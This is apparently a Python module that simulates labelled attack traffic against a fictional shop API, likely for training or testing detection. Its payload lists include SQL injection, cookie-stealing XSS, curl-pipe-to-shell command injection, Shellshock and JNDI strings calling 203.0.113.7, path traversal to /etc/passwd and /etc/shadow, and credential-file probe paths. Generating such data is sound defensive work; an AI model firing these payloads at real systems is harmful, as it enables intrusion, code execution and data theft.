"""Attacks carried in the request itself.

Injection payloads, probing and fuzzing, bad data written on purpose, oversized bodies,
tampered headers and tampered query parameters.

Headers beyond the contract's columns are represented where the contract has room:
``host`` (the Host header: IP literals, foreign or doubled hosts, odd ports) and
``user_agent`` (oversized, shell or JNDI payloads, control characters, missing).
"""

from __future__ import annotations

from urllib.parse import quote_plus

import numpy as np
import pyarrow as pa

from apibehave.simulate import text
from apibehave.simulate.apis import ENDPOINT_INDEX, SHOP_HOST
from apibehave.simulate.batch import Batch, concat
from apibehave.simulate.campaigns.base import BROWSING, CampaignContext, label, pick_strings
from apibehave.simulate.render import calls
from apibehave.simulate.sessions import ID1_KIND, object_ids

SQLI = (
    "' OR '1'='1", "1' OR 1=1-- -", "1 UNION SELECT username,password FROM users--",
    "1; DROP TABLE orders;--", "' AND SLEEP(5)--",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "admin'--", "' OR 1=1#", "1) OR (1=1", "'; EXEC xp_cmdshell('dir');--",
)  # fmt: skip
XSS = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>",
    "<svg/onload=fetch('//x.example/'+document.cookie)>", "javascript:alert(1)",
)  # fmt: skip
CMD = ("; cat /etc/passwd", "| id", "`uname -a`", "$(curl http://203.0.113.7/x.sh|sh)")
TRAVERSAL = ("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/shadow")
OBFUSCATED = (
    "1%27%20oR%20%271%27%3D%271", "%3CScRiPt%3Ealert%281%29%3C%2FsCrIpT%3E",
    "1/**/UnIoN/**/SeLeCt/**/1,2",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "1%27%20AND%20SLEEP%285%29--%20-",
)  # fmt: skip


def _encode(values: list[str]) -> list[str]:
    return [quote_plus(v) for v in values]


def _payloads(ctx: CampaignContext, n: int) -> pa.Array:
    """Injection strings: plain and URL-encoded when loud, obfuscated when stealthy."""
    loud = _encode(list(SQLI + XSS + CMD + TRAVERSAL))
    return text.where(
        ctx.rng.random(n) < ctx.stealth,
        pick_strings(ctx.rng, list(OBFUSCATED), n),
        pick_strings(ctx.rng, loud, n),
    )


def _one_client(ctx: CampaignContext, batch: Batch) -> Batch:
    bots = ctx.bots(1, 1)
    ips = ctx.attacker_ips(bots)
    return batch.with_columns(
        client_ip=text.pick(ips, ctx.rng.integers(0, bots, len(batch))),
        user_agent=ctx.attacker_agents(1)[0],
    )


def _with_cover(ctx: CampaignContext, batch: Batch, ratio: float) -> Batch:
    """Add the attacker's own benign-looking browsing (it is labelled with the attack)."""
    k = int(len(batch) * ratio)
    if k == 0:
        return batch
    ts = ctx.rng.choice(batch.columns["ts"], size=k) + ctx.rng.integers(-600, 600, k) * 10**9
    cover = ctx.browsing(ts)
    columns = {
        c: batch.columns[c].take(pa.array(np.zeros(k, dtype=np.int64)))
        for c in ("client_ip", "user_agent")
        if c in batch.columns
    }
    return concat([batch, cover.with_columns(**columns)])


def injection(ctx: CampaignContext) -> Batch:
    """Send SQL, XSS, command and traversal payloads in queries, paths, bodies and the login."""
    rng = ctx.rng
    start, end = ctx.window(0.33, 6.0)
    n = ctx.count(2000, 30, minimum=5)
    ts = ctx.times(n, start, end)
    where = rng.choice(4, size=n, p=[0.45, 0.2, 0.2, 0.15])  # query, path, body, login
    endpoint = np.select(
        [where == 0, where == 1, where == 2],
        [
            ENDPOINT_INDEX["catalogue.search"],
            ENDPOINT_INDEX["catalogue.product"],
            ENDPOINT_INDEX["accounts.profile_update"],
        ],
        ENDPOINT_INDEX["auth.login"],
    )
    payload = _payloads(ctx, n)
    batch = calls(rng, ts, endpoint, ctx.products(n), with_query=False)
    query = text.where(where == 0, text.join("q=", payload, "&page=1"), text.nulls(n))
    path = text.where(
        where == 1, text.join("/v2/catalogue/products/", payload), batch.columns["path"]
    )
    body = text.where(
        where == 2,
        text.join('{"display_name":"', payload, '","phone":"+44 7700 900123"}'),
        text.where(
            where == 3, text.join('{"username":"', payload, '","password":"x"}'), text.nulls(n)
        ),
    )
    status = np.where(rng.random(n) < 0.6, 400, batch.columns["status"])
    status = np.where(rng.random(n) < 0.08, 500, status)
    status = np.where(where == 3, 401, status)
    batch = batch.with_columns(
        query=query,
        path=path,
        body=body,
        req_bytes=text.lengths(body),
        status=status,
        username=text.where(where == 3, payload, text.nulls(n)),
    )
    return label(ctx, _with_cover(ctx, _one_client(ctx, batch), ctx.mix(0.05, 3.0)), "ip")


PROBE_PATHS = (
    "/admin", "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/actuator/health",
    "/actuator/env", "/swagger.json", "/v2/api-docs", "/graphql", "/api/v1/users", "/server-status",
    "/config.json", "/backup.sql", "/.aws/credentials", "/v1/accounts/../../etc/passwd",
    "/v1/debug/pprof", "/console", "/v1/orders/1/../../admin", "/.DS_Store", "/api/swagger-ui.html",
    "/v1/auth/login.bak", "/v2/catalogue/products.json~", "/cgi-bin/test.cgi",
    "/v1/internal/metrics",
)  # fmt: skip
FUZZ = (
    "%00", "A" * 300, "%ff%fe", "{{7*7}}", "${7*7}", "-1", "0x7fffffff", "null", "[]", "%0d%0a",
    "1%27", "1%22%3E%3Cscript%3E", "..%2F..%2Fetc%2Fpasswd", "1%3Bsleep%205",
)  # fmt: skip
"""Fuzzing values put where a product id belongs (including injection probes)."""


def probing(ctx: CampaignContext) -> Batch:
    """Scan for paths that do not exist and fuzz the ones that do."""
    rng = ctx.rng
    start, end = ctx.window(0.25, 12.0)
    n = ctx.count(3000, 60, minimum=5)
    bots = ctx.bots(1, 40)
    ts = ctx.times(n, start, end)
    fuzz = rng.random(n) < 0.3
    batch = calls(
        rng, ts, np.full(n, ENDPOINT_INDEX["catalogue.product"]), ctx.products(n), with_query=False
    )
    guessed = text.join("/", text.hex_ids(rng, n, 6))  # brute-forced directory names
    probe = text.where(rng.random(n) < 0.2, guessed, pick_strings(rng, list(PROBE_PATHS), n))
    suffix = text.where(
        rng.random(n) < 0.3, pick_strings(rng, [".php", ".bak", ".old", "/", ".zip"], n), ""
    )
    path = text.where(
        fuzz,
        text.join("/v2/catalogue/products/", pick_strings(rng, list(FUZZ), n)),
        text.join(probe, suffix),
    )
    method = text.where(
        rng.random(n) < 0.1, pick_strings(rng, ["OPTIONS", "TRACE", "HEAD", "PUT"], n), "GET"
    )
    status = np.where(
        fuzz,
        rng.choice([400, 404, 500], size=n, p=[0.6, 0.3, 0.1]),
        rng.choice([404, 403, 405, 401], size=n, p=[0.8, 0.1, 0.05, 0.05]),
    )
    ips = ctx.attacker_ips(bots)
    batch = batch.with_columns(
        path=path,
        method=method,
        status=status,
        resp_bytes=rng.integers(90, 600, n),
        api=text.where(fuzz, "catalogue", text.nulls(n)),
        query=None,
        client_ip=text.pick(ips, rng.integers(0, bots, n)),
        user_agent=pick_strings(rng, ctx.attacker_agents(max(1, bots // 5)), n),
    )
    return label(ctx, _with_cover(ctx, batch, ctx.mix(0.02, 2.0)), "ip")


POISON_LOUD = (
    '{"display_name":"' + "X" * 600 + '","phone":"not-a-phone","newsletter":"maybe"}',
    '{"display_name":null,"role":"admin","credit":999999,"phone":[1,2,3]}',
    '{"product_id":-7,"quantity":-500}',
    '{"product_id":"DROP","quantity":1e308}',
    '{"rating":11,"text":"BUY CHEAP PILLS http://spam.example"}',
)
POISON_QUIET = (
    '{"display_name":"Anna","phone":"+44 7700 900001","newsletter":true,"tier":"gold"}',
    '{"product_id":100231,"quantity":999}',
    '{"product_id":100017,"quantity":0}',
    '{"display_name":"anna.smith","phone":"+44 7700 900000","newsletter":true,"verified":true}',
)
POISON_TARGETS = (
    "accounts.profile_update",
    "accounts.profile_update",
    "orders.cart_add",
    "orders.cart_add",
    "orders.cart_add",
)
"""Endpoint each loud poison body is written to (same order as ``POISON_LOUD``)."""


def data_poisoning(ctx: CampaignContext) -> Batch:
    """Unusual writes: bodies with wrong types, odd fields and absurd values, mostly accepted."""
    rng = ctx.rng
    start, end = ctx.window(0.5, 6.0)
    n = ctx.count(800, 40, minimum=5)
    ts = ctx.times(n, start, end)
    users = ctx.world.users
    user = int(ctx.random_users(1)[0])
    loud = rng.random(n) >= ctx.stealth
    choice = rng.integers(0, len(POISON_LOUD), n)
    quiet_choice = rng.integers(0, len(POISON_QUIET), n)
    body = text.where(loud, text.pick(POISON_LOUD, choice), text.pick(POISON_QUIET, quiet_choice))
    target = np.where(loud, choice, np.where(quiet_choice % 3 == 0, 0, 2))
    endpoint = np.array([ENDPOINT_INDEX[k] for k in POISON_TARGETS])[target]
    ids = object_ids(rng, ctx.world, np.full(n, user), ID1_KIND[endpoint])
    batch = calls(rng, ts, endpoint, ids, with_body=False)
    status = np.where(loud & (rng.random(n) < 0.3), 400, batch.columns["status"])
    batch = batch.with_columns(
        body=body,
        req_bytes=text.lengths(body),
        status=status,
        client_ip=users.home_ip[user].as_py() if ctx.stealth > 0.5 else ctx.attacker_ips(1)[0],
        user_agent=users.agent[user].as_py() if ctx.stealth > 0.5 else ctx.attacker_agents(1)[0],
        token=text.hex_ids(rng, 1)[0].as_py(),
        username=users.username[user].as_py(),
    )
    return label(ctx, batch, "token")


OVERSIZE_TARGETS = ("files.upload", "accounts.profile_update", "orders.cart_add", "auth.login")


def api_memory_attack(ctx: CampaignContext) -> Batch:
    """Send oversized and deeply nested bodies meant to exhaust the backend's memory.

    Loud: tens of megabytes to any write endpoint, often nested JSON. Quiet: a few
    megabytes, mostly to the upload endpoint where large bodies are normal.
    """
    rng = ctx.rng
    start, end = ctx.window(0.17, 3.0)
    n = ctx.count(300, 15, minimum=3)
    ts = ctx.times(n, start, end)
    upload = rng.random(n) < 0.25 + 0.75 * ctx.stealth
    other = np.array([ENDPOINT_INDEX[k] for k in OVERSIZE_TARGETS[1:]])
    endpoint = np.where(upload, ENDPOINT_INDEX[OVERSIZE_TARGETS[0]],
                        other[rng.integers(0, len(other), n)])  # fmt: skip
    batch = calls(rng, ts, endpoint, with_body=False)
    size = rng.lognormal(np.log(ctx.mix(20e6, 2.5e6)), 0.5, n).astype(np.int64)
    nested = (rng.random(n) < 0.4) & (rng.random(n) >= ctx.stealth)
    body = text.where(
        nested, "[" * 2000 + "... (truncated)", '{"data":"' + "A" * 2000 + "... (truncated)"
    )
    body = text.where(upload & ~nested, text.nulls(n), body)  # uploads are binary
    choke = rng.random(n) < ctx.mix(0.8, 0.3)
    status = np.where(choke, rng.choice([413, 500, 502], size=n, p=[0.6, 0.25, 0.15]),
                      batch.columns["status"])  # fmt: skip
    slow = rng.uniform(5, 40, n) * np.where(choke, 1.0, 0.3)
    batch = batch.with_columns(
        body=body,
        req_bytes=size,
        status=status,
        latency_ms=batch.columns["latency_ms"] * np.maximum(slow, 1.0),
    )
    return label(ctx, _one_client(ctx, batch), "ip")


BAD_HOSTS_LOUD = (
    "203.0.113.10",
    "localhost",
    "evil.example",
    f"{SHOP_HOST}, evil.example",
    "169.254.169.254",
    f"{SHOP_HOST}\r\nX-Forwarded-Host: evil.example",
)
BAD_HOSTS_QUIET = (f"{SHOP_HOST}:8443", f"{SHOP_HOST}.", SHOP_HOST.upper(), f"{SHOP_HOST}:443")
BAD_AGENTS_LOUD = (
    "() { :; }; /bin/bash -c 'curl http://203.0.113.7/s|sh'",
    "${jndi:ldap://203.0.113.7:1389/a}",
    "Mozilla/5.0\r\nX-Injected: 1",
    "A" * 8192,
    "<script>alert(1)</script>",
)


def header_manipulation(ctx: CampaignContext) -> Batch:
    """Tampered Host headers and abnormal User-Agents (see the module notes)."""
    rng = ctx.rng
    start, end = ctx.window(0.33, 8.0)
    n = ctx.count(1500, 40, minimum=5)
    ts = ctx.times(n, start, end)
    batch = _one_client(
        ctx, calls(rng, ts, BROWSING[rng.integers(0, len(BROWSING), n)], ctx.products(n))
    )
    loud = rng.random(n) >= ctx.stealth
    host = text.where(
        loud,
        pick_strings(rng, list(BAD_HOSTS_LOUD), n),
        pick_strings(rng, list(BAD_HOSTS_QUIET), n),
    )
    tamper_agent = rng.random(n) < 0.5
    agent = text.where(
        loud & tamper_agent,
        pick_strings(rng, list(BAD_AGENTS_LOUD), n),
        text.where(
            tamper_agent & (rng.random(n) < 0.5), text.nulls(n), batch.columns["user_agent"]
        ),
    )
    status = np.where(loud & (rng.random(n) < 0.5), 400, batch.columns["status"])
    batch = batch.with_columns(host=host, user_agent=agent, status=status)
    return label(ctx, batch, "ip")


TAMPER_LOUD = (
    "page=-1&size=24", "page=1&size=100000", "page=999999999&size=24", "size=24&admin=true&debug=1",
    "page=1&size=24&role=admin", "page=1&page=2&page=3", "fields=password_hash,email&page=1",
    "page=1&size=24&price_max=-1", "page=1%00&size=24", "limit=1e9",
)  # fmt: skip
TAMPER_QUIET = (
    "page=1&size=500",
    "page=1&size=24&debug=true",
    "page=0&size=24",
    "page=1&size=24&include=internal_notes",
    "page=1&size=240",
)


def query_manipulation(ctx: CampaignContext) -> Batch:
    """Tampered query parameters: huge pages, negative values, hidden flags, repeats."""
    rng = ctx.rng
    start, end = ctx.window(0.5, 6.0)
    n = ctx.count(1200, 50, minimum=5)
    ts = ctx.times(n, start, end)
    endpoint = rng.choice(
        [
            ENDPOINT_INDEX["catalogue.products"],
            ENDPOINT_INDEX["orders.list"],
            ENDPOINT_INDEX["files.list"],
        ],
        size=n,
        p=[0.6, 0.25, 0.15],
    )
    batch = calls(rng, ts, endpoint, with_query=False)
    loud = rng.random(n) >= ctx.stealth
    query = text.where(
        loud, pick_strings(rng, list(TAMPER_LOUD), n), pick_strings(rng, list(TAMPER_QUIET), n)
    )
    big = text.contains(query, "size=100000") | text.contains(query, "size=500")
    resp = np.where(
        big, batch.columns["resp_bytes"] * rng.uniform(10, 200, n), batch.columns["resp_bytes"]
    )
    status = np.where(loud & (rng.random(n) < 0.4), 400, batch.columns["status"])
    user = int(ctx.random_users(1)[0])
    users = ctx.world.users
    authed = endpoint != ENDPOINT_INDEX["catalogue.products"]
    batch = batch.with_columns(
        query=query,
        resp_bytes=resp.astype(np.int64),
        status=status,
        token=text.where(authed, text.hex_ids(rng, 1)[0].as_py(), text.nulls(n)),
        username=text.where(authed, users.username[user].as_py(), text.nulls(n)),
    )
    return label(ctx, _one_client(ctx, batch), "ip")


GENERATORS = {
    "injection": injection,
    "probing": probing,
    "data_poisoning": data_poisoning,
    "api_memory_attack": api_memory_attack,
    "header_manipulation": header_manipulation,
    "query_manipulation": query_manipulation,
}
